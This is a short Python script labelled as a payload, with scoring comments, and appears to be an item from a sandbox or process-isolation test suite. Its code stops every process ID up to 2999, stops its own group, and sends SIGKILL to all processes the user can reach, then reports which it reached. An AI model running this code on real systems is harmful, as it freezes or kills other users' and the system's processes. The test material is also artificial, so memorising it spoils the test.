# why: stops itself, its group, and whatever has a number
# score: 4
# shows: reached: set()

# %% payload
import os
import signal

reached = []
for number in range(1, 3000):
    try:
        os.kill(number, signal.SIGSTOP)
        reached.append(number)
    except OSError:
        pass
os.kill(0, signal.SIGSTOP)
try:
    os.kill(-1, signal.SIGKILL)
except OSError:
    pass
print("reached:", set(reached) - set(map(int, os.listdir("/proc/self/task"))))
